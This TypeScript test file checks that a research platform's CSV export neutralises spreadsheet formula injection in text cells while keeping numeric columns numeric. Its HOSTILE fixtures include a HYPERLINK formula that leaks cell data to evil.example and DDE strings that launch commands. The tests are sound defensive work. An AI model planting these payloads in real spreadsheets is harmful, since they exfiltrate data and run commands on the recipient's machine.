import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import type { Actor } from '@/lib/server/actor'
import { execute } from '@/lib/server/operation'
import { db } from '@/lib/server/db'
import { runSession } from '@/lib/server/engine/runner'
import { csvField, csvLine } from '@/lib/server/services/csv'
import { exportRun } from '@/lib/server/services/run-export'
import { createRun } from '@/lib/server/services/runs'
import { debateRules, loadDebateFixture } from '../../protocols/evince/tests/support'
import { makeStudy, makeUser } from '../support/fixtures'
import { fakeConnection, useFakeLlm } from '../support/llm'

const fake = useFakeLlm()

/** Cells a spreadsheet would run as formulas (OWASP's list: =, +, -, @, tab, CR). */
const HOSTILE = {
  eq: '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+9)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
}
const FORMULA = /^[=+\-@\t\r]/

const collect = async (lines: AsyncIterable<string>) => {
  const out: string[] = []
  for await (const l of lines) out.push(l)
  return out.join('\n')
}
const records = (csv: string) => parse(csv, { columns: true }) as Array<Record<string, string>>

/** A table of a run as CSV, through the export operation (what the route streams). */
async function exportCsv(actor: Actor, runId: string, table: string) {
  const r = await execute(exportRun, actor, { runId, table, format: 'csv' })
  if (!r.ok) throw new Error(r.error)
  return records(await collect(r.data.lines()))
}

/** No cell of the file starts like a formula, except the numeric columns' real numbers. */
function expectNoFormula(rows: Array<Record<string, string>>, numeric: string[] = []) {
  for (const r of rows)
    for (const [k, v] of Object.entries(r)) {
      if (numeric.includes(k) && v !== '' && Number.isFinite(Number(v))) continue
      expect(v, `${k}: ${JSON.stringify(v)}`).not.toMatch(FORMULA)
    }
}

describe('CSV cells are neutralised against formula injection (OWASP), numbers stay numbers', () => {
  it('csvField: text starting with = + - @ tab CR gets a leading quote and RFC 4180 quoting; numbers do not', () => {
    expect(csvField(HOSTILE.eq)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click for details"")"`)
    expect(csvField(HOSTILE.plus)).toBe(`'+cmd|' /C calc'!A0`)
    expect(csvField('@x')).toBe(`'@x`)
    expect(csvField('\t=1+1')).toBe(`'\t=1+1`)
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`)
    // A number stays a number, whatever its sign; text that looks like one is still text.
    expect(csvField(-0.5)).toBe('-0.5')
    expect(csvField(-3)).toBe('-3')
    expect(csvField('-0.5')).toBe(`'-0.5`)
    expect(csvField(true)).toBe('true')
    expect(csvField(new Date('2026-01-02T03:04:05Z'))).toBe('2026-01-02T03:04:05.000Z')
    expect(csvField({ a: '=1' })).toBe('"{""a"":""=1""}"')
    expect(csvField('plain')).toBe('plain')
    const line = csvLine([HOSTILE.minus, -0.25, 'a,b'])
    expect(parse(line)).toEqual([[`'${HOSTILE.minus}`, '-0.25', 'a,b']])
  })

  it('PXP exports D, M, C and stats: hostile dataset and model text is neutralised, numbers are not', async () => {
    const researcher = await makeUser('researcher')
    const study = await makeStudy(researcher)
    const e = await db.run.create({
      data: {
        studyId: study.id,
        name: 'hostile',
        protocol: 'pxp',
        task: 'generic',
        datasetId: 'none',
        config: { n: 10, k: 3 },
        seats: {},
        repetitions: 1,
        status: 'done',
      },
    })
    const s = await db.protocolSession.create({
      data: {
        studyId: study.id,
        runId: e.id,
        protocol: 'pxp',
        protocolVersion: '1',
        config: { n: 10, k: 3 },
        task: 'generic',
        instance: { input: { q: HOSTILE.eq }, prediction: HOSTILE.minus, explanation: HOSTILE.at },
        seats: {},
        repetition: 1,
        position: 0,
        status: 'stalled',
        stallError: HOSTILE.plus,
      },
    })
    await db.protocolMessage.createMany({
      data: [
        {
          sessionId: s.id,
          seq: 1,
          sender: 'm',
          receiver: 'h',
          label: 'INIT',
          value: HOSTILE.eq,
          detail: HOSTILE.tab,
        },
        {
          sessionId: s.id,
          seq: 2,
          sender: 'h',
          receiver: 'm',
          label: 'RATIFY',
          value: HOSTILE.at,
          detail: HOSTILE.cr,
        },
        { sessionId: s.id, seq: 3, sender: 'm', receiver: 'h', label: 'RATIFY', value: '-0.5', detail: 'fine' },
      ],
    })
    await db.contextSnapshot.createMany({
      data: [
        { sessionId: s.id, seq: 1, context: HOSTILE.plus }, // a JSON string value
        { sessionId: s.id, seq: 2, context: [{ role: 'user', content: HOSTILE.eq }] },
      ],
    })

    const d = await exportCsv(researcher, e.id, 'd')
    expect(d[0]).toMatchObject({
      stallError: `'${HOSTILE.plus}`,
      prediction: `'${HOSTILE.minus}`,
      explanation: `'${HOSTILE.at}`,
      input: JSON.stringify({ q: HOSTILE.eq }),
      messages: '3',
      position: '0',
    })
    expectNoFormula(d, ['repetition', 'position', 'messages'])

    const m = await exportCsv(researcher, e.id, 'm')
    expect(m.map((r) => [r.j, r.prediction, r.explanation])).toEqual([
      ['1', `'${HOSTILE.eq}`, `'${HOSTILE.tab}`],
      ['2', `'${HOSTILE.at}`, `'${HOSTILE.cr}`],
      // Model text that looks like a number is still text from a model: neutralised too.
      ['3', `'-0.5`, 'fine'],
    ])
    expectNoFormula(m, ['repetition', 'position', 'j'])

    const c = await exportCsv(researcher, e.id, 'c')
    expect(c.map((r) => r.context)).toEqual([
      `'${HOSTILE.plus}`,
      JSON.stringify([{ role: 'user', content: HOSTILE.eq }]),
    ])
    expectNoFormula(c, ['repetition', 'position', 'j'])

    const stats = await exportCsv(researcher, e.id, 'stats')
    expect(stats.length).toBeGreaterThan(0)
    // The numbers come out as numbers (no quote in front of any of them).
    for (const r of stats)
      for (const k of ['median', 'min', 'max', 'proportion']) expect(r[k], k).toMatch(/^-?\d+(\.\d+)?(e-?\d+)?$/)
    expectNoFormula(stats, ['j', 'median', 'min', 'max', 'proportion'])
  })

  it('debate exports rounds and finals: hostile case text, labels and the judge’s report are neutralised', async () => {
    const researcher = await makeUser('researcher')
    const study = await makeStudy(researcher)
    const conn = await fakeConnection(study.id, fake())
    const f = loadDebateFixture('dengue')
    f.symptoms = `${HOSTILE.eq} fever, rash`
    f.groundTruth = HOSTILE.at
    // The debaters name labels that look like formulas; the judge's conclusion is one.
    for (const r of f.rounds) for (const seat of [r.A, r.B]) for (const p of seat) p.label = `=${p.label}`
    const rules = debateRules(f)
    const report = rules.at(-1)?.replies?.[0] as { json: Record<string, unknown> }
    report.json.conclusion = HOSTILE.minus
    fake().setScript(rules)
    const created = await execute(createRun, researcher, {
      protocol: 'evince',
      studyId: study.id,
      name: 'hostile debate',
      A: { kind: 'llm', connectionId: conn.id, model: 'gen-a' },
      B: { kind: 'llm', connectionId: conn.id, model: 'gen-b' },
      judge: { connectionId: conn.id, model: 'judge' },
      config: { k: f.k, maxRounds: f.rounds.length },
      case: { symptoms: f.symptoms, truth: f.groundTruth },
      start: false,
    })
    if (!created.ok) throw new Error(created.error)
    expect((await runSession(created.data.firstSessionId as string)).kind).toBe('done')

    const rounds = await exportCsv(researcher, created.data.id, 'rounds')
    expect(rounds.length).toBeGreaterThan(0)
    expect(rounds[0]?.labels).toContain('=Dengue Fever')
    expect(rounds[0]?.A_1_label).toBe("'=Dengue Fever")
    const numeric = Object.keys(rounds[0] ?? {}).filter(
      (k) => !['session', 'labels', 'warnings'].includes(k) && !k.endsWith('_label'),
    )
    expectNoFormula(rounds, numeric)

    const finals = await exportCsv(researcher, created.data.id, 'finals')
    expect(finals[0]).toMatchObject({
      symptoms: `'${f.symptoms}`,
      truth: `'${HOSTILE.at}`,
      conclusion: `'${HOSTILE.minus}`,
    })
    expect(finals[0]?.final_1_label).toBe("'=Dengue Fever")
    expectNoFormula(finals, [
      'position',
      'rounds',
      'finalEntropy',
      ...Object.keys(finals[0] ?? {}).filter((k) => k.endsWith('_probability')),
    ])
  })
})
